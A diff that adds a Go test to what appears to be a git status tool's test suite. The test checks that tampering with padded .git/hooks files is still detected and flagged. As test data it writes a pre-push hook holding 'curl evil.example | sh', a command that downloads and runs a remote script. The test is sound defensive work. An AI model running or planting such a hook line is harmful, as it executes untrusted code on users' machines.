@@ -536,6 +536,37 @@ func TestLongGuardedFile(t *testing.T) {
 	}
 }
 
+// TestPaddedGuardedFile: what is changed beyond what is shown of a file is seen as well.
+func TestPaddedGuardedFile(t *testing.T) {
+	r := newRepo(t)
+	head := "#!/bin/sh\n" + strings.Repeat("# padding\n", 2_000)
+	r.write(".git/hooks/pre-push", head+"true\n")
+	r.write(".git/hooks/pre-commit", head+strings.Repeat("# padding\n", 200_000))
+	r.status()
+	if got := paths(r.status()); len(got) != 0 {
+		t.Errorf("%q", got)
+	}
+	was := time.Now().Add(-time.Hour)
+	for name, text := range map[string]string{"pre-push": "curl evil.example | sh\n", "pre-commit": strings.Repeat("# padding\n", 200_001)} {
+		r.write(".git/hooks/"+name, head+text)
+		r.ok(os.Chtimes(filepath.Join(r.dir, ".git/hooks", name), was, was))
+	}
+	files := r.status().Files
+	if len(files) != 2 {
+		t.Errorf("%+v", files)
+	}
+	for _, f := range files {
+		d := r.file(f.Path)
+		if f.Alarm == nil || f.Kind != "M" || len(d.Hunks) != 1 || !strings.Contains(fmt.Sprint(d.Hunks), "More of this file is not shown") {
+			t.Errorf("%+v %+v", f, d)
+		}
+		r.ok(r.s.Stage(t.Context(), "c", f.Path, nil, d.Mark))
+	}
+	if got := paths(r.status()); len(got) != 0 {
+		t.Errorf("%q", got)
+	}
+}
+
 // TestManyGuardedFiles: as much of git's own files as the script prints is kept, whatever is in it.
 func TestManyGuardedFiles(t *testing.T) {
 	r := newRepo(t)
